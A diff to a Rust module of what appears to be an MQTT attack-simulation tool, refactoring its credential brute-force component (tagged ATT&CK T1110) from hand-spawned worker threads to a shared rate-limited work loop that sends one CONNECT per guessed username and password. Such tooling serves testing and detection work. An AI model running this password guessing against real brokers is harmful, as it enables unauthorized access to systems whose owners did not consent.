@@ -1,16 +1,13 @@
 //! Guessing of credentials: one connection and one CONNECT per guess (ATT&CK T1110).
 
-use std::sync::atomic::{AtomicU64, Ordering};
-use std::thread;
-
 use clap::Args;
 use serde::{Deserialize, Serialize};
 
-use super::manner::Naming;
-use super::{Deed, Meter, Place, defaults, share, words};
+use super::manner::{Manner, Naming};
+use super::{Deed, Meter, Place, defaults, words};
 use crate::mqtt::packet::{Connect, Version};
-use crate::mqtt::session::{ConnectError, Session};
-use crate::stop::{Pacer, Stop};
+use crate::mqtt::session::Session;
+use crate::stop::Stop;
 
 /// Options of the brute force.
 #[derive(Clone, PartialEq, Debug, Serialize, Deserialize, Args)]
@@ -64,11 +61,15 @@ impl Deed for BruteForce {
     }
 
     fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
-        let guess_number = AtomicU64::new(0);
-        thread::scope(|scope| {
-            for worker in 0..self.workers.clamp(1, 64) {
-                let guess_number = &guess_number;
-                scope.spawn(move || self.worker(worker, place, stop, meter, guess_number));
+        let &Self { rate, jitter, workers, .. } = self;
+        let manner = Manner { rate, jitter, workers, ..Manner::default() };
+        manner.work(place, stop, meter, self.tries, |mut worker| {
+            while let Some(index) = worker.turn() {
+                let users = self.users.max(1);
+                let user = u32::try_from(index % u64::from(users)).expect("less than the number of users");
+                let password = words::password(index / u64::from(users), &mut worker.random);
+                let client_id = self.naming.name(self.protocol, index, &mut worker.random);
+                self.guess((&words::user(user), &password), &client_id, place, meter);
             }
         });
         if let (true, Some(right), false) = (self.succeed, &place.credentials, stop.interrupted()) {
@@ -79,19 +80,6 @@ impl Deed for BruteForce {
 }
 
 impl BruteForce {
-    fn worker(&self, worker: u32, place: &Place, stop: &Stop, meter: &Meter, guess_number: &AtomicU64) {
-        let mut random = place.random(worker);
-        let mut pacer = Pacer::new(share(self.rate, self.workers)).jittered(self.jitter, &mut random);
-        while pacer.turn(stop) && meter.take(u64::from(self.tries)) {
-            let index = guess_number.fetch_add(1, Ordering::Relaxed);
-            let users = self.users.max(1);
-            let user = u32::try_from(index % u64::from(users)).expect("less than the number of users");
-            let password = words::password(index / u64::from(users), &mut random);
-            let client_id = self.naming.name(self.protocol, index, &mut random);
-            self.guess((&words::user(user), &password), &client_id, place, meter);
-        }
-    }
-
     fn guess(&self, login: (&str, &str), client_id: &str, place: &Place, meter: &Meter) {
         let connect = Connect {
             version: self.protocol,
@@ -101,13 +89,8 @@ impl BruteForce {
             login: Some(login),
             will: None,
         };
-        match Session::connect(&place.dial(), &connect) {
-            Ok(session) => {
-                Meter::count(&meter.accepted);
-                session.leave();
-            }
-            Err(ConnectError::Refused(_)) => Meter::count(&meter.refused),
-            Err(ConnectError::Io(_)) => Meter::count(&meter.failed),
+        if let Some(session) = meter.connected(Session::connect(&place.dial(), &connect)) {
+            session.leave();
         }
     }
 }
